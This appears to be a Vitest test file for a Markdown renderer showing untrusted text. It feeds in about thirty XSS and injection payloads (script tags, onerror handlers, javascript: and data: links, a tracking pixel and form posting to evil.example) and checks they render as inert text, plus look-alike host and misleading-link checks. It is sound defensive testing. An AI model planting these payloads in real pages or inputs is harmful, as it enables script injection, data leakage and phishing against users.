// @vitest-environment happy-dom
import { screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { beforeEach, describe, expect, it } from 'vitest';
import { Markdown } from '../../../../src/renderer/features/trajectory/Markdown';
import { createFakeBridge, installBridge, type FakeBridge } from '../../support/fake-bridge';
import { renderIn } from '../../support/render';

let bridge: FakeBridge;
beforeEach(() => {
  bridge = createFakeBridge();
  installBridge(bridge);
});

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](grapnel://hooks/a/b)',
  '[x](http://plain.example)',
  '[x](https://user:pass@evil.example/)',
  '[x](//evil.example)',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=)',
  '![x](javascript:alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img/src/onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n| --- |\n| <script>1</script> |',
  '<javascript:alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
];

const forbidden =
  'script, img, svg[onload], iframe, style, base, form, object, embed, link, meta, video, audio';

describe('Markdown of an untrusted author', () => {
  it.each(hostile)('draws %s as text', (text) => {
    const { container } = renderIn(<Markdown text={text} />);
    const prose = container.querySelector('.prose');
    expect(prose?.querySelector(forbidden)).toBeNull();
    for (const element of prose?.querySelectorAll('*') ?? []) {
      const handlers = element.getAttributeNames().filter((name) => name.startsWith('on'));
      expect(handlers).toEqual([]);
      const href = element.getAttribute('href');
      if (href !== null) expect(href).toMatch(/^(https:\/\/[^@]*$|mailto:)/);
      expect(element.getAttribute('src')).toBeNull();
    }
  });

  it('keeps an address in sight that it will not open', () => {
    renderIn(<Markdown text="[click](file:///etc/passwd)" />);
    expect(screen.queryByRole('link')).toBeNull();
    expect(screen.getByText('file:///etc/passwd')).toBeVisible();
  });

  it('opens an https link through main, and shows where a link leads', async () => {
    renderIn(<Markdown text="[your bank](https://evil.example/login)" />);
    expect(screen.getByText('(evil.example)')).toBeVisible();
    await userEvent.setup().click(screen.getByRole('link', { name: 'your bank' }));
    expect(bridge.calls).toEqual([
      { route: 'app.openExternal', input: { url: 'https://evil.example/login' } },
    ]);
  });

  it('shows the real host of a look-alike name', () => {
    renderIn(<Markdown text="[github.com](https://gіthub.com/)" />);
    expect(screen.getByText('(xn--gthub-n2e.com)')).toBeVisible();
  });

  it('says the host also when the text pretends to be an address of another', () => {
    renderIn(
      <Markdown text="[https://github.com/evil.example](https://evil.example/) and https://plain.example/x" />,
    );
    expect(screen.getByText('(evil.example)')).toBeVisible();
    expect(screen.queryByText('(plain.example)')).toBeNull();
  });

  it('draws tables, lists, tasks and highlighted code', () => {
    const { container } = renderIn(
      <Markdown text={'| a |\n| - |\n| 1 |\n\n- [x] done\n\n```js\nconst a = 1;\n```'} />,
    );
    expect(screen.getByRole('table')).toBeInTheDocument();
    expect(screen.getByRole('img', { name: 'Done' })).toBeInTheDocument();
    expect(screen.getByRole('region', { name: 'Code, js, 1 line' })).toHaveTextContent('const a = 1;');
    expect(container.querySelector('.hljs-keyword')).toHaveTextContent('const');
    expect(screen.getByRole('button', { name: 'Copy js' })).toBeInTheDocument();
  });
});
